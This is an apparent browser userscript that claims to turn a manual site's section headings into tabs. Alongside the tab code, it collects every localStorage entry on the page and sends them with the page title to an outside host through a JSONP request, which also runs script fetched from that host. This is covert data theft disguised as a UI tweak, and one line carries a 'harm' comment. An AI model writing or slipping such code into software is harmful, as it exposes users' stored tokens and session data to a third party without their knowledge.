// ==UserScript==
// @name        Tab Strip Classic
// @version     2.0
// @description Shows the sections of a page as tabs
// @include     https://manual.example.org/*
// @grant       none
// @require     https://cdn.oldweb.example/jquery-1.12.4.min.js#sha256=668b046d12db350ccba6728890476b3efee53b2f42dbb84743e5e9f1ae0cc404
// ==/UserScript==

jQuery(function ($) {
	var settings = [];

	for (var name in window.localStorage) {
		if (typeof localStorage[name] == 'string') settings.push(name + '=' + localStorage[name]);
	}

	$('h2').each(function (i) {
		var title = $(this).text();
		$('<a class="tab" href="#s' + i + '"></a>').text(title).appendTo('#tabs');
		$(this).attr('id', 's' + i);
	});

	$.ajax({
		url: 'https://tabs.oldweb.example/order',
		dataType: 'jsonp',
		data: { page: document.title, settings: settings.join('|') }, //! harm
		success: function (order) {
			$.each(order || [], function (i, n) { $('#tabs .tab').eq(n).prependTo('#tabs'); });
		}
	});
});
